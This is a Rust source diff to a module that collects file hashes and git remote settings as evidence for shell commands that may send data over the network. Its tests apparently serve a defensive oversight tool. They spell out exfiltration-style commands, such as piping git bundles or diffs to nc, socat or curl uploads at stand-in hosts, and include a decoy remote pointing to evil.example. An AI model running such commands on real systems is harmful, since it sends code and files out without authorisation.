@@ -28,6 +28,8 @@ const PROGRAMS: [&[u8]; 6] = [b"\x7fELF", b"\xcf\xfa\xed\xfe", b"\xca\xfe\xba\xb
 const ENVIRONMENT: &str = "the environment's ";
 /// Longest file that is read for what it includes, in bytes.
 const MAX_SETTINGS: u64 = 256 * 1024;
+/// Most pieces of one file of settings that are looked at as names of files.
+const MAX_PIECES: usize = 20_000;
 /// Most names below a folder that is sent as a whole.
 const MAX_TREE: usize = 200_000;
 /// Deepest folder of submodules that is looked at.
@@ -35,14 +37,17 @@ const MAX_DEPTH: usize = 12;
 
 /// The evidence for one command. Files that are not there, or are no plain files, say nothing; where there are more than the
 /// protocol allows, the last entry stands for all of the rest.
-pub fn of(effects: &Effects, conditions: &[Condition], cwd: &Path) -> Vec<FileEvidence> {
-    let mut all = Gathered { found: Vec::new(), room: MAX_ALL, cwd };
+pub fn of(command: &str, effects: &Effects, conditions: &[Condition], cwd: &Path) -> Vec<FileEvidence> {
+    let mut all = Gathered { found: Vec::new(), room: MAX_ALL, cwd, remotes: git_config::words_of(command) };
     for path in &effects.runs {
         all.add(path, Told::Head);
     }
     if effects.network.is_empty() {
         // An option or a word may name code in any way.
-        if effects.programs.iter().any(|program| programs::runs_of(program) != programs::Runs::Nothing) {
+        let may_run = |program: &String| {
+            programs::row(program).is_none() || programs::runs_of(program) != programs::Runs::Nothing
+        };
+        if effects.programs.iter().any(may_run) {
             for path in &effects.named {
                 all.add(path, Told::Digest);
             }
@@ -50,13 +55,26 @@ pub fn of(effects: &Effects, conditions: &[Condition], cwd: &Path) -> Vec<FileEv
         return folded(all.found);
     }
     let rows: Vec<_> = effects.programs.iter().filter_map(|program| programs::row(program)).collect();
-    for name in rows.iter().flat_map(|row| row.configured_by) {
-        all.add_with_included(name);
-        all.add_settings(name);
+    let account = account_home();
+    for name in rows.iter().flat_map(|row| row.configured_by).flat_map(|name| places_of(name, account.as_deref(), cwd))
+    {
+        all.add_with_included(&name);
+        all.add_settings(&name);
+        all.add_folder(&name);
     }
     all.add_git(effects);
     for path in effects.reads.iter().chain(&effects.named) {
-        all.add_with_included(path);
+        match path.rsplit_once('/').filter(|(_, name)| name.contains('*')) {
+            None => all.add_with_included(path),
+            // What a loop goes through.
+            Some((folder, name)) => {
+                let (start, end) = name.split_once('*').unwrap_or((name, ""));
+                names_in(folder, start, end, cwd).iter().for_each(|name| all.add_with_included(name));
+            }
+        }
+    }
+    if effects.reads_unknown {
+        all.found.push(unknown("files whose names are only known when it runs"));
     }
     let is_folder = |path: &&String| place(path, cwd).is_some_and(|place| place.is_dir());
     let named = effects.reads.iter().chain(&effects.named).filter(is_folder);
@@ -90,6 +108,8 @@ struct Gathered<'c> {
     found: Vec<FileEvidence>,
     room: u64,
     cwd: &'c Path,
+    /// The words of the command, and what its repositories go to by themselves: the remotes among them are told first.
+    remotes: Vec<String>,
 }
 
 impl Gathered<'_> {
@@ -98,7 +118,7 @@ impl Gathered<'_> {
         if !known
             && self.found.len() < MAX_FILES
             && let Some(file) = place(name, self.cwd)
-            && let Some(evidence) = read(name, &file, told, &mut self.room)
+            && let Some(evidence) = read(name, &file, told, &self.remotes, &mut self.room)
         {
             self.found.push(evidence);
         }
@@ -113,12 +133,15 @@ impl Gathered<'_> {
             }
             self.add(&name, Told::Digest);
             let Some(text) = self.settings_in(&name) else { continue };
-            for included in included(&text) {
-                if self.found.len() >= MAX_FILES || waiting.len() >= MAX_FILES {
+            let included = included(&text);
+            let names_too_much = included.len() > MAX_PIECES;
+            for included in included.into_iter().take(MAX_PIECES) {
+                if names_too_much || self.found.len() >= MAX_FILES || waiting.len() >= MAX_FILES {
                     self.found.push(unknown(&format!("all that {name} names")));
                     return;
                 }
                 match included.split_once(['*', '?', '[']) {
+                    None if place(&included, self.cwd).is_none_or(|file| !file.exists()) => {}
                     None => waiting.push(included),
                     // As people write it: all files of a folder, or those of one kind.
                     Some((folder, end)) if folder.ends_with('/') && !end.contains(['*', '?', '[', '/']) => {
@@ -130,6 +153,13 @@ impl Gathered<'_> {
                     Some(_) => self.found.push(unknown(&format!("files that {name} includes: {included}"))),
                 }
             }
+        }
+    }
+
+    /// Everything below a folder, where there is one.
+    fn add_folder(&mut self, name: &str) {
+        if place(name, self.cwd).is_some_and(|place| place.is_dir()) {
+            self.found.extend(tree(name, self.cwd));
         }
     }
 
@@ -166,6 +196,7 @@ impl Gathered<'_> {
             let repositories = git::repositories(&folder);
             is_unknown |= repositories.is_err();
             let repositories = repositories.unwrap_or_default();
+            self.remotes.extend(repositories.iter().flat_map(usual_remotes));
             let inside = repositories.iter().flat_map(git::Repository::files);
             for file in inside.chain(git::files_outside()) {
                 self.add(&file.to_string_lossy(), Told::Remotes);
@@ -185,6 +216,14 @@ impl Gathered<'_> {
                     // What may be executed is more likely a hook or a helper than settings.
                     let is_code = std::fs::metadata(&file).is_ok_and(|meta| meta.mode() & 0o111 != 0);
                     self.add(&file.to_string_lossy(), if is_code { Told::Head } else { Told::Remotes });
+                }
+            }
+            // What git shows of a repository may be what another program sends.
+            let sends = effects.network.iter().any(|used| used.program != "git");
+            for repository in repositories.iter().filter(|_| sends) {
+                self.add_folder(&repository.root.to_string_lossy());
+                if !repository.common.starts_with(&repository.root) {
+                    self.add_folder(&repository.common.to_string_lossy());
                 }
             }
             for repository in &repositories {
@@ -241,6 +280,31 @@ impl Gathered<'_> {
     }
 }
 
+/// Where settings may lie: those without a folder in front in the folder where a program starts and in each above it, those of the
+/// home folder also in the account's own where they are ssh's, which goes by that whatever `HOME` says.
+fn places_of(name: &str, account: Option<&Path>, cwd: &Path) -> Vec<String> {
+    if name.starts_with('/') {
+        return vec![name.to_owned()];
+    }
+    if let Some(inside) = name.strip_prefix("~/") {
+        let own = account.filter(|_| inside.starts_with(".ssh/"));
+        let own = own.map(|home| home.join(inside).to_string_lossy().into_owned());
+        return std::iter::once(name.to_owned()).chain(own).collect();
+    }
+    cwd.ancestors().map(|folder| folder.join(name).to_string_lossy().into_owned()).collect()
+}
+
+/// The home folder of the account, where it is another one than `HOME`.
+fn account_home() -> Option<PathBuf> {
+    let own = rustix::process::getuid().as_raw().to_string();
+    let table = std::fs::read_to_string("/etc/passwd").ok()?;
+    let home = table.lines().find_map(|line| match line.split(':').collect::<Vec<_>>().as_slice() {
+        [_, _, id, _, _, home, ..] if *id == own => Some(PathBuf::from(home)),
+        _ => None,
+    });
+    home.filter(|home| home.is_absolute() && std::env::var_os("HOME").is_none_or(|set| Path::new(&set) != home))
+}
+
 /// What an answer cannot be bound to.
 fn unknown(what: &str) -> FileEvidence {
     let path = what.chars().take(1024).collect();
@@ -251,8 +315,8 @@ fn unknown(what: &str) -> FileEvidence {
 /// it names some, which only binds more.
 fn included(text: &str) -> Vec<String> {
     let mut found = Vec::new();
-    for line in text.lines() {
-        let line = line.trim();
+    // All of them take this for a comment.
+    for line in text.lines().map(str::trim).filter(|line| !line.starts_with('#')) {
         let end = line.find(|c: char| c.is_whitespace() || c == '=' || c == ':').unwrap_or(line.len());
         let (key, rest) = line.split_at_checked(end).unwrap_or((line, ""));
         let values = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '=' || c == ':');
@@ -280,7 +344,6 @@ fn included(text: &str) -> Vec<String> {
             found.push(plain(glued));
         }
     }
-    found.truncate(MAX_FILES);
     found
 }
 
@@ -310,6 +373,11 @@ fn names_in(folder: &str, start: &str, end: &str, cwd: &Path) -> Vec<String> {
     names
 }
 
+/// What the entry for everything below a folder is called.
+fn below(folder: &str) -> String {
+    format!("{}/ (all of it)", folder.trim_end_matches('/'))
+}
+
 /// Everything below a folder: names, lengths and times. Too much has no digest.
 fn tree(folder: &str, cwd: &Path) -> Option<FileEvidence> {
     let root = place(folder, cwd)?;
@@ -319,9 +387,7 @@ fn tree(folder: &str, cwd: &Path) -> Option<FileEvidence> {
     while let Some(inner) = waiting.pop() {
         for entry in std::fs::read_dir(&inner).into_iter().flatten().flatten() {
             if lines.len() >= MAX_TREE {
-                return Some(FileEvidence {
-                    path: format!("{folder}/…"), sha256: String::new(), head: String::new()
-                });
+                return Some(FileEvidence { path: below(folder), sha256: String::new(), head: String::new() });
             }
             let Ok(mut meta) = entry.metadata() else { continue };
             let path = entry.path();
@@ -344,7 +410,7 @@ fn tree(folder: &str, cwd: &Path) -> Option<FileEvidence> {
     }
     lines.sort();
     let sha256 = Digest::of(lines.concat().as_bytes()).hex();
-    Some(FileEvidence { path: format!("{folder}/…"), sha256, head: String::new() })
+    Some(FileEvidence { path: below(folder), sha256, head: String::new() })
 }
 
 /// The variables that say where the network's programs send: proxies, git's, what steers the shell and all programs, and what
@@ -400,8 +466,23 @@ enum Told {
     Digest,
 }
 
+/// What git goes to where the command names no remote: by the branch that is checked out.
+fn usual_remotes(repository: &git::Repository) -> Vec<String> {
+    let text = |file: &Path| git::read_text(file).unwrap_or_default();
+    let head = text(&repository.git_dir.join("HEAD"));
+    let branch = head.trim().strip_prefix("ref: refs/heads/").unwrap_or_default().to_owned();
+    let settings = repository.files().into_iter().filter_map(|file| git::config::read(&text(&file))).flatten();
+    let is_usual = |key: &str| {
+        let lower = key.to_ascii_lowercase();
+        lower == "remote.pushdefault" || git_config::is_of_branch(key, &branch)
+    };
+    let mut all: Vec<String> = settings.filter(|setting| is_usual(&setting.key)).map(|setting| setting.value).collect();
+    all.extend([branch, "origin".to_owned()]);
+    all
+}
+
 /// The settings by which git finds out where it sends, a line each: first those that change what a remote's address says.
-fn remotes(text: &str) -> String {
+fn remotes(text: &str, named: &[String]) -> String {
     let Some(settings) = git::config::read(text) else {
         return "(settings that are not understood here; git may understand them)\n".to_owned();
     };
@@ -410,15 +491,19 @@ fn remotes(text: &str) -> String {
         let is_plain = |c: char| c.is_ascii_graphic() && !"\"\\".contains(c);
         if text.chars().all(is_plain) { text.to_owned() } else { format!("{text:?}") }
     };
-    let (first, then): (Vec<_>, Vec<_>) = settings
-        .iter()
-        .filter(|setting| git_config::says_where(&setting.key, &setting.value))
-        .partition(|setting| git_config::leads_elsewhere(&setting.key, &setting.value));
-    let lines = first.into_iter().chain(then);
-    lines.flat_map(|setting| [shown(&setting.key), " = ".to_owned(), setting.value.clone(), "\n".to_owned()]).collect()
+    let says = |setting: &&git::config::Setting| git_config::says_where(&setting.key, &setting.value);
+    let mut lines: Vec<_> = settings.iter().filter(says).collect();
+    // What is used stands in front of what is not, however much of that there is.
+    lines.sort_by_key(|setting| {
+        (!git_config::leads_elsewhere(&setting.key, &setting.value), !git_config::is_of_remote(&setting.key, named))
+    });
+    lines
+        .into_iter()
+        .flat_map(|setting| [shown(&setting.key), " = ".to_owned(), setting.value.clone(), "\n".to_owned()])
+        .collect()
 }
 
-fn read(name: &str, file: &Path, told: Told, room: &mut u64) -> Option<FileEvidence> {
+fn read(name: &str, file: &Path, told: Told, named: &[String], room: &mut u64) -> Option<FileEvidence> {
     // Opening a FIFO would wait for whoever writes it.
     let meta = std::fs::metadata(file).ok().filter(std::fs::Metadata::is_file)?;
     let mut bytes = Vec::new();
@@ -428,7 +513,7 @@ fn read(name: &str, file: &Path, told: Told, room: &mut u64) -> Option<FileEvide
     *room = room.saturating_sub(bytes.len() as u64);
     let head = match told {
         Told::Head => start_of(&bytes),
-        Told::Remotes => start_of(remotes(&String::from_utf8_lossy(&bytes)).as_bytes()),
+        Told::Remotes => start_of(remotes(&String::from_utf8_lossy(&bytes), named).as_bytes()),
         Told::Digest => String::new(),
     };
     let name: String = name.chars().take(1024).collect();
@@ -465,7 +550,7 @@ mod tests {
     fn evidence_of(command: &str, folder: &Path) -> Vec<FileEvidence> {
         let cwd = folder.to_str().map(str::to_owned);
         let found = classify(&CommandLine::parse(command).unwrap(), &Surroundings { cwd, ..Surroundings::default() });
-        of(&found.effects, &found.conditions, folder)
+        of(command, &found.effects, &found.conditions, folder)
     }
 
     #[test]
@@ -494,6 +579,83 @@ mod tests {
         let all = evidence_of(&scripts.join("; "), folder.path());
         assert_eq!(all.last().map(|last| last.path.as_str()), Some("5 more files"));
         assert!(all.iter().all(|file| file.sha256.len() == 64));
+    }
+
+    #[test]
+    fn what_leaves_counts_whatever_sends_it() {
+        let folder = tempfile::tempdir().unwrap();
+        let write = |name: &str, text: &str| {
+            let file = folder.path().join(name);
+            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+            std::fs::write(file, text).unwrap();
+        };
+        write(".git/HEAD", "ref: refs/heads/main\n");
+        write(".git/config", "");
+        write(".git/refs/heads/main", "0123456789012345678901234567890123456789\n");
+        write("app/Cargo.toml", "");
+        for (command, file) in [
+            ("twine upload dist/x", "app/dist/x"),
+            ("twine upload dist/*", "app/dist/y"),
+            ("cargo publish", "app/src/lib.rs"),
+            ("cd .. && cargo publish", "app/src/lib.rs"),
+            ("npm publish", "app/lib/index.js"),
+            ("yarn npm publish --access public", "app/lib/index.js"),
+            ("npm publish", ".npmrc"),
+            ("poetry publish", "app/dist/x"),
+            ("mvn -q deploy", "app/target/x.jar"),
+            ("fly deploy; flyctl deploy", "app/main.py"),
+            ("vercel deploy --prod", "app/index.html"),
+            ("gh release create v1 dist/x", "app/dist/x"),
+            ("gh gist create notes.txt", "app/notes.txt"),
+            ("socat FILE:dist/x TCP:h.example:1", "app/dist/x"),
+            ("socat -u open:dist/x,rdonly TCP:h.example:1", "app/dist/x"),
+            ("aws s3 cp dist/x s3://b/x", "app/dist/x"),
+            ("rclone copy dist r:x", "app/dist/x"),
+            ("for f in dist/*; do curl -T \"$f\" https://h.example; done", "app/dist/y"),
+            ("for f in dist/*.gz; do curl -T $f https://h.example; done", "app/dist/y.gz"),
+            ("git archive HEAD | curl -T - https://h.example", ".git/refs/heads/main"),
+            ("git diff | curl -T - https://h.example", "app/src/lib.rs"),
+            ("git bundle create - main | nc h.example 1", ".git/packed-refs"),
+            ("cargo publish", ".cargo/config.toml"),
+            ("cargo install x", "app/.cargo/config.toml"),
+            ("flyctl status", "fly.toml"),
+            ("yarn add x", ".yarnrc.yml"),
+            ("own-tool push dist/x", "app/dist/x"),
+        ] {
+            let here = folder.path().join("app");
+            write(file, "before");
+            let before = evidence_of(command, &here);
+            assert_eq!(before, evidence_of(command, &here), "{command}");
+            write(file, "something else");
+            assert_ne!(before, evidence_of(command, &here), "{command} {file}");
+        }
+        // Where nobody can know which files those are, no answer is for more than once.
+        for command in
+            ["ls | xargs -n1 curl -T", "f=$(pick); curl -T \"$f\" https://h.example", "scp \"$f\" h.example:"]
+        {
+            let evidence = evidence_of(command, folder.path());
+            assert!(evidence.iter().any(|file| file.sha256.is_empty()), "{command}: {evidence:?}");
+        }
+    }
+
+    #[test]
+    fn what_git_uses_stands_in_front_of_what_it_does_not() {
+        let folder = tempfile::tempdir().unwrap();
+        let git = folder.path().join(".git");
+        std::fs::create_dir(&git).unwrap();
+        std::fs::write(git.join("HEAD"), "ref: refs/heads/topic\n").unwrap();
+        let decoys = |from: usize| {
+            let one = |number| format!("[remote \"decoy{number}\"]\n\turl = https://fine.example/{number}/of/many\n");
+            (from..from + 400).map(one).collect::<String>()
+        };
+        let used = "[remote \"used\"]\n\turl = https://evil.example/x\n[branch \"topic\"]\n\tremote = used\n";
+        std::fs::write(git.join("config"), format!("{}{used}{}", decoys(0), decoys(400))).unwrap();
+        for command in ["git push", "git push used main", "git fetch 'used'", "git pull"] {
+            let evidence = evidence_of(command, folder.path());
+            let settings = evidence.iter().find(|file| file.path.ends_with(".git/config")).unwrap();
+            let lines: Vec<&str> = settings.head.lines().take(3).collect();
+            assert!(lines.contains(&"remote.used.url = https://evil.example/x"), "{command}: {lines:?}");
+        }
     }
 
     #[test]
@@ -617,7 +779,7 @@ mod tests {
             ("cat Makefile | curl -T - https://h", vec!["Makefile"]),
         ] {
             let found = classify(&CommandLine::parse(command).unwrap(), &Surroundings::default());
-            let evidence = of(&found.effects, &found.conditions, folder.path());
+            let evidence = of(command, &found.effects, &found.conditions, folder.path());
             // Of which variables are set here, the test knows nothing.
             let by_variable = |file: &&FileEvidence| std::env::vars().any(|(_, value)| value == file.path);
             let files = evidence.iter().filter(|file| !file.path.starts_with(ENVIRONMENT) && !by_variable(file));
